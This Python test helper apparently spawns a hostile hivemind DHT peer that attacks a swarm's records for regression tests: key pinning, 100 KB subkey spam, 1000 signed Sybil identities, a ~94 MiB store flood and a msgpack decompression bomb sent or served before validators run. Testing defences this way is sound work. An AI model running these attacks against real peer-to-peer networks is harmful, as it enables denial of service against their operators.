"""A hostile DHT peer in its own process: a bare hivemind DHT (no validators of its own) that attacks
the swarm's records the way the security review did, then stays up until the test ends it.

    python tests/helpers/dht_attacker.py <initial peer multiaddr> <swarm id> <victim peer id> <attacks...>

Attacks (each aims at both key layouts, the single v1 keys and the per-peer / sharded keys):
- ``pin``: garbage under the victim's roster and announcement subkeys, expiring in 10^7 s, and a plain
  value (no subkey) at the victim's announcement keys;
- ``spam``: 60 subkeys of 100 KB under the announcement and roster keys (past the 4 MiB answer cap);
- ``sybil``: 1000 validly signed roster cards of fresh identities, dated 2100;
- ``flood``: a store flood for a storing node's memory: FLOOD_SIGNERS fresh identities each sign a roster
  card padded to ~8 KiB (the record limit) for FLOOD_KEYS_PER_SIGNER of FLOOD_SWARMS swarms, all valid
  and fresh: ~12,000 records, ~94 MiB, three times what BoundedStorage keeps.

Prints ``STORED {"attack": n accepted, ...}`` once done (how many stores some node accepted), then
sleeps; the test kills it by PID.

The coroutines below the CLI (``store_cards``, ``store_records``, ``store_bomb``, ``serve_bomb``) run inside a
bare hivemind DHT's process (``dht.run_coroutine``) and speak hivemind's RPCs straight to every DHT server
the attacker knows, as an outside attacker can: what they send is built inside that process, so no request
over the attacker's own node<->DHT pipe is large.
"""

from __future__ import annotations

import functools
import hashlib
import json
import struct
import sys
import time

import hivemind
import msgpack
from hivemind.dht.routing import DHTID
from hivemind.dht.storage import DictionaryDHTValue
from hivemind.proto import dht_pb2
from hivemind.utils import MSGPackSerializer, get_dht_time

from swarmnode.identity import Identity
from swarmnode.swarm.wire import codec, protocol, work

SYBILS = 1000
SPAM_SUBKEYS = 60
SPAM_BYTES = 100_000
FAR_FUTURE_S = 1e7
YEAR_2100 = 4_102_444_800.0
FLOOD_SIGNERS = 1500
FLOOD_SWARMS = 16
FLOOD_KEYS_PER_SIGNER = 8
FLOOD_PAD_CHARS = 7700  # a card of ~8,000 bytes: just under MAX_RECORD_BYTES
FLOOD_BATCH_SIGNERS = 16  # signers per store_many (x FLOOD_KEYS_PER_SIGNER records)


def keys(swarm: str, peer: str, kind: str) -> list[str]:
    """The key a peer's ``kind`` record lives under, in the v1 single-key layout and the sharded one."""
    if kind == "roster":
        shard = hashlib.sha256(peer.encode()).digest()[0] % 8
        return [f"swarmnode/{swarm}/roster", f"swarmnode/{swarm}/roster/{shard}"]
    return [f"swarmnode/{swarm}/announce", f"swarmnode/{swarm}/announce/{peer}"]


async def _spam(_dht, node, *, keys: list[str]) -> int:
    """Runs inside the attacker's DHT process: SPAM_SUBKEYS x SPAM_BYTES junk subkeys under each key."""
    expiration = get_dht_time() + 600
    stored = 0
    for key in keys:
        for i in range(SPAM_SUBKEYS):
            ok = await node.store(key, bytes([i]) * SPAM_BYTES, expiration, subkey=f"junk-{i}")
            stored += bool(ok)
    return stored


async def _flood_batch(_dht, node, *, first: int, count: int) -> int:
    """Runs inside the attacker's DHT process: sign ``count`` signers' padded cards and store them in one
    ``store_many`` (one request per storing node: far faster than a store call per record)."""
    record_keys, values, subkeys = [], [], []
    now = get_dht_time()
    for i in range(first, first + count):
        signer = Identity.from_seed(hashlib.sha256(b"flood%d" % i).digest())
        for j in range(FLOOD_KEYS_PER_SIGNER):
            swarm = f"flood-{(i + j) % FLOOD_SWARMS}"
            card = protocol.RosterCard(
                peer_id=signer.peer_id, swarm_id=swarm, model_name="flood", tokenizer_fingerprint="",
                policy_version=0, round=0, addrs=(), timestamp=now, seq=1,
                extra={"pad": "x" * FLOOD_PAD_CHARS},
            )  # fmt: skip
            record_keys.append(keys(swarm, signer.peer_id, "roster")[1])  # = dht_rules.roster_key
            values.append(codec.encode_message(signer, swarm, card))
            subkeys.append(signer.peer_id)
    stored = await node.store_many(record_keys, values, now + 600, subkeys=subkeys)
    return sum(bool(ok) for ok in stored.values())


def _flood(dht: hivemind.DHT, stored: dict[str, int]) -> None:
    for first in range(0, FLOOD_SIGNERS, FLOOD_BATCH_SIGNERS):
        batch = functools.partial(
            _flood_batch, first=first, count=min(FLOOD_BATCH_SIGNERS, FLOOD_SIGNERS - first)
        )
        try:
            stored["flood"] = stored.get("flood", 0) + dht.run_coroutine(batch, return_future=True).result(
                300
            )
        except Exception as exc:  # noqa: BLE001 - a failed batch counts as not stored
            print(f"flood batch at {first} failed: {exc!r}", flush=True)


def main() -> None:
    initial, swarm, victim, *attacks = sys.argv[1:]
    dht = hivemind.DHT(initial_peers=[initial], client_mode=True, start=True)
    stored: dict[str, int] = {}
    futures = []

    def store(attack: str, key: str, value: bytes, expiration: float, subkey=None) -> None:
        futures.append((attack, dht.store(key, value, expiration, subkey=subkey, return_future=True)))

    now = get_dht_time()
    if "pin" in attacks:
        for kind in ("roster", "announce"):
            for key in keys(swarm, victim, kind):
                store("pin", key, b"garbage", now + FAR_FUTURE_S, subkey=victim)
        for key in keys(swarm, victim, "announce"):
            store("pin", key, b"plain value", now + FAR_FUTURE_S)
    if "spam" in attacks:  # built inside the DHT process: values over ~64 KiB crash hivemind's pipe
        spam_keys = keys(swarm, victim, "roster") + keys(swarm, victim, "announce")
        futures.append(
            ("spam", dht.run_coroutine(functools.partial(_spam, keys=spam_keys), return_future=True))
        )
    if "sybil" in attacks:
        for i in range(SYBILS):
            sybil = Identity.from_seed(hashlib.sha256(b"sybil%d" % i).digest())
            card = protocol.RosterCard(
                peer_id=sybil.peer_id, swarm_id=swarm, model_name="sybil", tokenizer_fingerprint="",
                policy_version=0, round=0, addrs=(), timestamp=YEAR_2100, seq=1,
            )  # fmt: skip
            record = codec.encode_message(sybil, swarm, card)
            for key in keys(swarm, sybil.peer_id, "roster"):
                store("sybil", key, record, YEAR_2100 + 60, subkey=sybil.peer_id)
    if "flood" in attacks:
        _flood(dht, stored)
    for attack, future in futures:
        try:
            stored[attack] = stored.get(attack, 0) + int(future.result(timeout=120))
        except Exception:  # noqa: BLE001 - a refused or failed store counts as not stored
            stored.setdefault(attack, 0)
    print("STORED " + json.dumps(stored), flush=True)
    time.sleep(600)


def sybil(tag: bytes, i: int) -> Identity:
    """The ``i``-th identity of a family (fixed seeds: free to mint, the same in every process)."""
    return Identity.from_seed(hashlib.sha256(tag + b"%d" % i).digest())


def shard_filling(tag: bytes, per_shard: int, shards: int = 8) -> list[int]:
    """Indices of ``tag`` identities with exactly ``per_shard`` cards in each of ``shards`` roster shards."""
    counts, chosen, i = [0] * shards, [], 0
    while min(counts) < per_shard:
        # dht_rules.roster_shard, not imported: the helper also runs against older code
        shard = hashlib.sha256(sybil(tag, i).peer_id.encode()).digest()[0] % shards
        if counts[shard] < per_shard:
            counts[shard] += 1
            chosen.append(i)
        i += 1
    return chosen


def card(identity: Identity, swarm: str, timestamp: float, pad: int = 0, work_bits: int = 0) -> bytes:
    """A validly signed roster card of ``identity``, padded with ``pad`` characters of extra, carrying a
    proof of ``work_bits`` of identity work (none at 0)."""
    proof = {"work_nonce": work.mint(identity.public_key, work_bits)} if work_bits else {}
    body = protocol.RosterCard(
        peer_id=identity.peer_id, swarm_id=swarm, model_name="sybil", tokenizer_fingerprint="",
        policy_version=0, round=0, addrs=(), timestamp=timestamp, seq=1,
        extra={"pad": "x" * pad} if pad else {}, **proof,
    )  # fmt: skip
    return codec.encode_message(identity, swarm, body)


def announcement(identity: Identity, swarm: str, timestamp: float, work_bits: int = 0) -> bytes:
    """A validly signed announcement of ``identity`` (of a batch nobody holds), carrying a proof of
    ``work_bits`` of identity work (none at 0)."""
    proof = {"work_nonce": work.mint(identity.public_key, work_bits)} if work_bits else {}
    body = protocol.BatchAnnouncement(
        peer_id=identity.peer_id, swarm_id=swarm, round=1, policy_version=0, payload_sha256=bytes(32),
        payload_len=100, n_groups=1, timestamp=timestamp, seq=1, **proof,
    )  # fmt: skip
    return codec.encode_message(identity, swarm, body)


def _servers(node) -> list:
    return list(node.protocol.routing_table.uid_to_peer_id.values())


async def _send(node, records: list[tuple[str, str, bytes, float]], in_cache: bool, batch: int = 64) -> int:
    """Each (key, subkey, value, expiration) to every known DHT server, ``batch`` records per request;
    how many (record, server) stores were accepted."""
    accepted = 0
    for peer in _servers(node):
        for first in range(0, len(records), batch):
            part = records[first : first + batch]
            ok = await node.protocol.call_store(
                peer,
                [DHTID.generate(source=key) for key, _, _, _ in part],
                [msgpack.packb(value, use_bin_type=True) for _, _, value, _ in part],
                [expiration for _, _, _, expiration in part],
                subkeys=[subkey for _, subkey, _, _ in part],
                in_cache=in_cache,
            )
            accepted += sum(bool(x) for x in ok or [])
    return accepted


async def store_records(_dht, node, *, records: list[tuple[str, str, bytes, float]], in_cache=False) -> int:
    """Inside the attacker's DHT process: store the given (small) records at every server it knows."""
    return await _send(node, records, in_cache)


async def store_cards(
    _dht, node, *, swarm: str, tag: bytes, indices: list[int], ahead_s: float = 0.0,
    expiration_past_timestamp_s: float = 600.0, pad: int = 0, in_cache: bool = False, work_bits: int = 0,
) -> int:  # fmt: skip
    """Inside the attacker's DHT process: a card of each ``tag`` identity in ``indices``, signed
    ``ahead_s`` ahead of now and expiring ``expiration_past_timestamp_s`` after its timestamp, with a proof
    of ``work_bits`` (none at 0), stored at every server it knows (in its cache with ``in_cache``)."""
    timestamp = get_dht_time() + ahead_s
    records = []
    for i in indices:
        identity = sybil(tag, i)
        key = keys(swarm, identity.peer_id, "roster")[1]
        records.append(
            (
                key,
                identity.peer_id,
                card(identity, swarm, timestamp, pad, work_bits),
                timestamp + expiration_past_timestamp_s,
            )
        )
    return await _send(node, records, in_cache)


async def store_announcements(_dht, node, *, swarm: str, tag: bytes, count: int) -> int:
    """Inside the attacker's DHT process: a work-less announcement of each of ``count`` free ``tag``
    identities (one key each), fresh and expiring when the storing rule allows, at every server it knows."""
    timestamp = get_dht_time()
    records = []
    for i in range(count):
        identity = sybil(tag, i)
        key = keys(swarm, identity.peer_id, "announce")[1]
        value = announcement(identity, swarm, timestamp)
        records.append((key, identity.peer_id, value, timestamp + 450.0))
    return await _send(node, records, in_cache=False)


def msgpack_bomb(nbytes: int) -> bytes:
    """An array of ``nbytes`` empty maps: one byte each on the wire, one Python dict each once decoded."""
    return b"\xdd" + struct.pack(">I", nbytes) + b"\x80" * nbytes


async def store_bomb(_dht, node, *, nbytes: int) -> int:
    """Inside the attacker's DHT process: an ``rpc_store`` of a whole dictionary whose bytes are a msgpack
    bomb, to every server it knows (hivemind decodes it before any validator runs); servers that answered."""
    request = dht_pb2.StoreRequest(
        keys=[DHTID.generate(source="bomb").to_bytes()], subkeys=[node.protocol.IS_DICTIONARY],
        values=[msgpack_bomb(nbytes)], expiration_time=[get_dht_time() + 60], in_cache=[False],
        peer=node.protocol.node_info,
    )  # fmt: skip
    answered = 0
    for peer in _servers(node):
        try:
            await node.protocol.get_stub(peer).rpc_store(request, timeout=30)
            answered += 1
        except Exception:  # noqa: BLE001 - a server that refused the request answers with an error
            answered += 1
    return answered


async def serve_bomb(_dht, node, *, key: str, nbytes: int) -> None:
    """Inside the attacker's (server-mode) DHT process: answer every find of ``key`` with a dictionary whose
    bytes are a msgpack bomb (a reader decodes a ``call_find`` answer before any validator runs)."""
    bomb = msgpack_bomb(nbytes)

    class BombSerializer(MSGPackSerializer):
        @classmethod
        def dumps(cls, obj: object) -> bytes:
            return bomb if isinstance(obj, DictionaryDHTValue) else super().dumps(obj)

    node.protocol.serializer = BombSerializer
    node.protocol.storage.store_subkey(DHTID.generate(source=key), "x", b"v", get_dht_time() + 600)


if __name__ == "__main__":
    main()
